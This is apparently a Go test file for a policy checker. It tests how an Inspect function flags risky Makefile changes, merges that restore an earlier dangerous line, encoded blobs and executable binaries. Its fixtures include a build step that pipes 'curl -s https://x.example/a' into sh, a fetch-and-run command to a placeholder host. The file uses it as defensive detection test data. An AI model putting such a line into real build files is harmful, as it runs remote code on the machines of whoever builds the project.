package policy

import (
	"crypto/sha256"
	"encoding/base64"
	"strings"
	"testing"

	"countersign/policy/content"
	"countersign/policy/signal"
)

// What a merge takes back is its own change, though no line of it is new.
func TestAttackMergeTakesBack(t *testing.T) {
	const begin = "CFLAGS = -O2\nall:\n\tcurl -s https://x.example/a | sh\n"
	const mended = "CFLAGS = -O2 -fstack-protector\nall:\n"
	payload := ""
	for i := range byte(20) {
		sum := sha256.Sum256([]byte{i})
		payload += base64.StdEncoding.EncodeToString(sum[:30]) + "\n"
	}
	for name, c := range map[string]struct {
		before [2]string
		now    string
		merged bool
		want   Traits
	}{
		"the old text for the new": {
			[2]string{mended, begin}, begin, false, riskyTrait | Traits(signal.FetchAndRun)<<signalBits,
		},
		"the new text for the old": {[2]string{begin, mended}, mended, false, riskyTrait},
		"a line more": {
			[2]string{mended, begin}, begin + "# x\n", false, riskyTrait | Traits(signal.FetchAndRun)<<signalBits,
		},
		"what git makes of both": {
			[2]string{mended + "# x\n", mended + "# y\n"}, mended + "# x\n# y\n", true, harmlessTrait,
		},
		"what only git's merge of both shows": {
			[2]string{mended + "x = \\\n" + payload[:410], mended + "x = \\\n" + payload[410:]},
			mended + "x = \\\n" + payload, true, riskyTrait | Traits(content.Encoded),
		},
		"harmless to both": {[2]string{mended + "# x\n", mended + "# y\n"}, mended + "# z\n", false, harmlessTrait},
		"harmless to one":  {[2]string{mended, mended + "x:\n\ttrue\n"}, mended + "# z\n", false, 0},
	} {
		got := Inspect(Content{
			Path: "Makefile", Before: [][]byte{[]byte(c.before[0]), []byte(c.before[1])}, Head: []byte(c.now),
			Size: int64(len(c.now)), Merged: c.merged,
		})
		if got != c.want {
			t.Errorf("%s: %b, want %b", name, got, c.want)
		}
	}
}

// Where commits are only counted, a file is looked at as it is: that costs less than half.
func TestInspectAlone(t *testing.T) {
	program := "\x7fELF\x02\x01\x01\x00"
	for path, c := range map[string]struct {
		head string
		want string
	}{
		"Makefile": {"all:\n\tcurl -s https://x.example/a | sh\n", ""},
		"a.bin":    {program, "binary executable"},
	} {
		got := Inspect(Content{Path: path, Head: []byte(c.head), Size: int64(len(c.head)), Alone: true})
		if names := strings.Join(got.Names(), " "); names != c.want || got&(riskyTrait|harmlessTrait) != 0 {
			t.Errorf("%s: %q, %b", path, names, got)
		}
	}
}
